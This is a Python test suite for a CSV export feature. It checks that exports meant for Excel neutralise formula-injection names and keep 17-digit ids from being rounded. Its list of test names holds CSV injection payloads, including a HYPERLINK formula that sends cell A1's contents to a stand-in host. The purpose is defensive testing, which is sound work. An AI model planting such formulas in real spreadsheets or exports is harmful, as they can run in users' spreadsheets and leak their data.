"""CSV for programs has names as they are; CSV for a spreadsheet has nothing that it would change."""

import csv
import io
import pathlib
import sqlite3

import pytest

from harness import Simulator, stocktake

# Names that a spreadsheet would run, round or take for a date.
DANGEROUS = ["=1+1", "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "=HYPERLINK(\"http://x/?\"&A1;\"a,b\")",
             "\uff1d1", "0012345678901234567", "3-4", "1e5"]
LARGE_ID = 12345678901234567


@pytest.fixture(scope="module")
def inventory(tmp_path_factory):
    """With dangerous names for its first users, and an id of 17 digits."""
    with Simulator(tmp_path_factory.mktemp("spreadsheets"), "--users", 20, "--weird-names",
                   "--git-folders") as simulator:
        scan = simulator.scan()
    with sqlite3.connect(scan.inventory) as database:
        for number, name in enumerate(DANGEROUS, 1):
            database.execute("UPDATE user SET name = ? WHERE id = ?", (name, number))
        database.execute("UPDATE entry SET object_id = ? WHERE object_id IS NOT NULL", (LARGE_ID,))
    database.close()
    return scan.inventory


def export(inventory, form, *options):
    output = inventory.with_suffix(".out")
    result = stocktake("export", form, "--inventory", inventory, "--output", output, *options)
    assert result.returncode == 0, result.stderr
    return output.read_bytes()


def rows(data, encoding="utf-8", **dialect):
    # strict: a quote where RFC 4180 has none is an error
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), strict=True, **dialect))


def test_the_default_is_rfc_4180(inventory):
    data = export(inventory, "csv")
    assert not data.startswith(b"\xef\xbb\xbf")
    names = [row[0] for row in rows(data)[1:]]
    assert set(DANGEROUS) <= set(names)
    header, *files = rows(export(inventory, "files-csv"))
    assert str(LARGE_ID) in [row[header.index("object_id")] for row in files]


@pytest.mark.parametrize(("options", "separator"), [
    ([], ","), (["--separator", "comma"], ","), (["--separator", "semicolon"], ";"),
    (["--separator", ";"], ";"), (["--separator", "tab"], "\t")])
@pytest.mark.parametrize("form", ["csv", "files-csv"])
def test_for_excel_nothing_is_run_or_rounded(inventory, form, options, separator):
    data = export(inventory, form, "--for", "excel", *options)
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    header, *safe = rows(data, "utf-8-sig", delimiter=separator)
    plain_header, *plain = rows(export(inventory, form))
    assert header == plain_header and len(safe) == len(plain)
    changed = set()
    for safe_row, plain_row in zip(safe, plain, strict=True):
        for name, there, here in zip(header, safe_row, plain_row, strict=True):
            assert there in (here, "'" + here)
            if there != here and name not in ("scim_id", "display_name", "workspace"):
                changed.add(here)
            assert not there.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"))
            if name in ("username", "object_id", "scim_id"):
                assert there == "" or not there.isdigit()
            elif here.replace(".", "").isdigit():
                assert there == here, name  # a number stays one
    names = {row[0] for row in plain}
    assert len(names & set(DANGEROUS)) > 5
    assert changed == names & set(DANGEROUS) | ({str(LARGE_ID)} if form == "files-csv" else set())


def test_the_separator_alone_changes_nothing_else(inventory):
    data = export(inventory, "csv", "--separator", "semicolon")
    assert rows(data, delimiter=";") == rows(export(inventory, "csv"))


def test_users(tmp_path):
    with Simulator(tmp_path, "--users", 3) as simulator:
        users = ["users", *simulator.login()]
        plain = rows(stocktake(*users, "--format", "csv").stdout.encode())
        safe = rows(stocktake(*users, "--format", "csv", "--for", "excel", "--separator",
                              "tab").stdout.encode(), "utf-8-sig", delimiter="\t")
        at = plain[0].index("id")
        assert [row[at] for row in safe[1:]] == ["'" + row[at] for row in plain[1:]]
        assert [row[:at] for row in safe] == [row[:at] for row in plain]
        assert stocktake(*users, "--for", "excel").returncode == 2


def test_what_makes_no_sense_is_refused(inventory):
    for words in (["jsonl", "--for", "excel"], ["html", "--separator", "tab"],
                  ["parquet", "--for", "excel"], ["csv", "--for", "word"],
                  ["csv", "--separator", "x"], ["csv", "--separator", ""]):
        result = stocktake("export", *words, "--inventory", inventory)
        assert result.returncode == 2 and words[1] in result.stderr and result.stdout == "", words


def test_help_names_the_risk():
    text = stocktake("export", "--help").stdout
    assert "--for excel" in text and "formula" in text and "RFC 4180" in text
    assert pathlib.Path(__file__).parents[2].joinpath("docs/inventory.md").read_text().count("OWASP")
